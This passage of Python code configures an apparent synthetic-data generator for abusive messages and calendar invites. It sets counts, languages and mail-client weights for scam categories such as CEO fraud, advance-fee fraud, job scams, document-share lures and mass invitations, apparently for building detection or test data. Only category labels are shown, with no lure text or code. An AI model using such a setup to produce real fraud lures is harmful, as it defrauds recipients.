                title='Business e-mail compromise: CEO fraud, gift cards, supplier bank change, payroll'),
    'advance-fee': dict(n=10, fn=advance_fee, langs=['ar', 'fr', 'zh', 'he', 'hi'],
                        clients={'yahoo': .2, 'outlook': .2, 'google': .2, 'custom': .15, 'sogo': .07, 'zimbra': .08, 'list': .05, 'apple': .05},
                        title='Advance-fee fraud (inheritance, compensation, consignment, lottery)'),
    'task-job-scam': dict(n=11, fn=task_job, langs=['zh', 'hi', 'th', 'ru', 'es', 'ko'],
                          clients={'google': .3, 'outlook': .2, 'zoom': .1, 'apple': .1, 'custom': .1, 'yahoo': .1, 'list': .1},
                          title='Task and job scams moving victims to WhatsApp/Telegram/LINE'),
    'compromised-doc-share': dict(n=11, fn=doc_share, langs=['nl', 'el', 'tr', 'pl', 'he'],
                                  clients={'outlook': .4, 'google': .2, 'zimbra': .12, 'nextcloud': .1, 'sogo': .08, 'thunderbird': .05, 'apple': .05},
                                  title='Document-share lures from compromised real partner mailboxes'),
    'nagging-payload': dict(n=10, fn=nagging, langs=['ja', 'th', 'el', 'ko'],
                            clients={'google': .25, 'apple': .25, 'custom': .2, 'outlook': .1, 'thunderbird': .08, 'nextcloud': .06, 'yahoo': .06},
                            title='Nagging payloads: endless recurrence, dozens of alarms, far-future or past dates'),
    'mass-invite': dict(n=11, fn=mass_invite, langs=['pt', 'ar', 'it', 'hi', 'tr'],
                        clients={'google': .25, 'outlook': .25, 'apple': .1, 'yahoo': .1, 'list': .1, 'zimbra': .05, 'custom': .1, 'thunderbird': .05},
                        title='Mass invitations to hundreds of unrelated attendees'),
}
